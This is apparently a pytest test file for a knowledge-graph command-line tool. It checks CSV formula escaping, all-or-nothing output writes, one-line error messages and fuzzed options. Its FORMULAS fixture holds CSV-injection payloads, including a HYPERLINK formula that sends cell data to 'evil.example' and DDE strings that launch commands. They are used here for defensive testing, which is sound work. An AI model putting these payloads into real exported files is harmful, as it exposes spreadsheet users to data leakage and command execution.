"""What kg writes: CSV cells a spreadsheet would run as formulas are escaped in every CSV output,
every --out is written whole (a failure leaves the old file), and bad paths or ids are one-line
errors. The query and export options are fuzzed with hypothesis."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from kg.cli import app
from kg.files import whole_file
from kg.model import Extraction
from kg.rdf import to_graph
from kg.store import open_store
from kg.table import csv_cell
from tests._http import http_server
from tests._timeline_sample import extractions

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3+cmd|' /C calc'!A0", "\tX", "\r=1"]
runner = CliRunner()


def _evil(extraction: Extraction, text: str) -> Extraction:
    article = extraction.article.model_copy(update={"publisher": text, "url": text})
    return extraction.model_copy(update={"article": article})


@pytest.fixture(scope="module")
def evil_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("evil") / "store"
    with open_store(str(path)) as opened:
        for extraction, text in zip(extractions(), FORMULAS, strict=False):
            opened.put(to_graph(_evil(extraction, text)), text_hash=extraction.article.text_hash)
    return str(path)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    for cell in _cells(text):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):  # only a number or a date
            assert re.fullmatch(r"[+-][0-9.]+(-[0-9]{2}){0,2}", cell), cell


@pytest.mark.parametrize("args", [
    ("export", "--format", "csv"),
    ("timeline", "--format", "csv"),
    ("query", "--format", "csv", "SELECT ?p { ?a kg:publisher ?p }"),
    ("query", "--format", "csv", "SELECT ?x { VALUES ?x { '=1+1' '-3' '-0044-03-15' '+2' } }"),
])
def test_outputs_csv_escapes_formulas_everywhere(evil_store: str, args: tuple[str, ...]) -> None:
    result = runner.invoke(app, [*args, "--store", evil_store])
    assert result.exit_code == 0, result.output
    _assert_no_formula(result.stdout)
    if args[0] != "query" or "publisher" in args[-1]:
        assert any(cell.startswith("'=HYPERLINK") for cell in _cells(result.stdout))


@pytest.mark.parametrize(("text", "expected"), [
    *[(formula, "'" + formula) for formula in FORMULAS],
    ("-3", "-3"), ("+1.5", "+1.5"), ("-1e5", "-1e5"), ("2019-08-20", "2019-08-20"),
    ("-0044-03-15", "-0044-03-15"), ("", ""), ("plain", "plain"), ("-", "'-"),
])
def test_outputs_csv_cell_follows_owasp(text: str, expected: str) -> None:
    assert csv_cell(text) == expected


@pytest.mark.parametrize("args", [
    ("export", "--format", "trig"), ("export", "--format", "csv"),
    ("timeline", "--format", "json"), ("timeline", "--format", "csv"),
])
def test_outputs_out_is_whole_or_untouched(evil_store: str, tmp_path: Path,
                                           args: tuple[str, ...]) -> None:
    out = tmp_path / "result"
    out.write_text("old contents\n", encoding="utf-8")
    failed = runner.invoke(app, [*args, "--out", str(out), "--store", str(tmp_path / "locked"),
                                 "--config", str(tmp_path / "missing.toml")])
    assert failed.exit_code == 1
    assert out.read_text(encoding="utf-8") == "old contents\n"
    done = runner.invoke(app, [*args, "--out", str(out), "--store", evil_store])
    assert done.exit_code == 0, done.output
    assert out.read_text(encoding="utf-8") == runner.invoke(
        app, [*args, "--store", evil_store]).stdout
    assert [path.name for path in tmp_path.iterdir()] == ["result"]


def test_outputs_whole_file_keeps_the_old_file_when_writing_fails(tmp_path: Path) -> None:
    out = tmp_path / "result.csv"
    out.write_bytes(b"old\n")
    with pytest.raises(RuntimeError), whole_file(out) as stream:
        stream.write(b"half of the new")
        raise RuntimeError("the export failed here")
    assert out.read_bytes() == b"old\n"
    assert [path.name for path in tmp_path.iterdir()] == ["result.csv"]


@pytest.mark.parametrize("args", [("export", "--format", "nquads"), ("export", "--format", "trig")])
def test_outputs_export_cut_off_midway_leaves_the_old_file(tmp_path: Path,
                                                          args: tuple[str, ...]) -> None:
    out = tmp_path / "graph.out"
    out.write_text("old contents\n", encoding="utf-8")
    config = tmp_path / "kg.toml"
    config.write_text("request_deadline = 1.0\n", encoding="utf-8")
    with http_server("trickle") as server:
        result = runner.invoke(app, [*args, "--out", str(out), "--store", server.url,
                                     "--config", str(config)])
    assert result.exit_code == 1
    assert out.read_text(encoding="utf-8") == "old contents\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["graph.out", "kg.toml"]


def test_outputs_dump_to_a_path_is_whole(tmp_path: Path) -> None:
    out = tmp_path / "dump.nq"
    out.write_bytes(b"old\n")
    with open_store(str(tmp_path / "store")) as opened:
        opened.put(to_graph(extractions()[0]), text_hash=extractions()[0].article.text_hash)
        opened.dump(out, "nquads")
    assert out.read_bytes().count(b"\n") > 10
    assert sorted(path.name for path in tmp_path.iterdir()) == ["dump.nq", "store"]


@pytest.mark.parametrize("args", [
    ("export", "--out", "{tmp}/missing/x.trig"),
    ("export", "--out", "{tmp}"),
    ("timeline", "--format", "csv", "--out", "{tmp}/missing/x.csv"),
    ("timeline", "--out", "{tmp}"),
    ("query", "{tmp}/missing.rq"),
    ("query", "--allow-update", "{tmp}/missing.ru"),
    ("remove", "!!!"),
    ("remove", ""),
    ("query", "SELECT * { SERVICE ?unbound { ?s ?p ?o } }"),
    ("query", "--allow-federation", "SELECT * { SERVICE ?unbound { ?s ?p ?o } }"),
])
def test_outputs_bad_paths_and_ids_are_one_line_errors(evil_store: str, tmp_path: Path,
                                                       args: tuple[str, ...]) -> None:
    result = runner.invoke(app, [arg.replace("{tmp}", str(tmp_path)) for arg in args]
                           + ["--store", evil_store])
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1, result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit)


_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(sparql=st.one_of(_TEXT, st.sampled_from(["SELECT * { ?s ?p ?o }", "ASK { ?s ?p ?o }",
                                                "DESCRIBE <x:y>", "SERVICE", "FROM <x:>"])),
       limit=st.one_of(st.none(), st.integers(-3, 5).map(str), _TEXT),
       timeout=st.one_of(st.none(), st.sampled_from(["0", "-1", "nan", "inf", "1e-9", "5"]), _TEXT),
       fmt=st.sampled_from(["table", "csv", "json", "xml"]))
def test_outputs_query_options_never_crash(evil_store: str, sparql: str, limit: str | None,
                                           timeout: str | None, fmt: str) -> None:
    args = ["query", sparql, "--format", fmt, "--store", evil_store]
    args += ["--limit", limit] if limit is not None else []
    args += ["--timeout", timeout] if timeout is not None else []
    result = runner.invoke(app, args)
    assert result.exit_code in (0, 1, 2), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    if result.exit_code == 1:
        assert result.stderr.startswith("error: ")


@settings(max_examples=30, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(command=st.sampled_from(["export", "timeline"]),
       fmt=st.sampled_from(["csv", "json", "trig", "timelinejs", "graphml", "table", "x"]),
       out=st.one_of(st.none(), st.text(st.characters(whitelist_categories=("L", "N", "P")),
                                        min_size=1, max_size=12)))
def test_outputs_export_options_never_crash(evil_store: str, tmp_path_factory:
                                            pytest.TempPathFactory, command: str, fmt: str,
                                            out: str | None) -> None:
    folder = tmp_path_factory.mktemp("out")
    args = [command, "--format", fmt, "--store", evil_store]
    args += ["--out", str(folder / out)] if out is not None else []
    result = runner.invoke(app, args)
    assert result.exit_code in (0, 1, 2), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    asked = folder / out if out is not None else None  # ".0" is a name one may ask for
    leftovers = [path for path in folder.rglob(".*") if path.is_file() and path != asked]
    assert leftovers == []
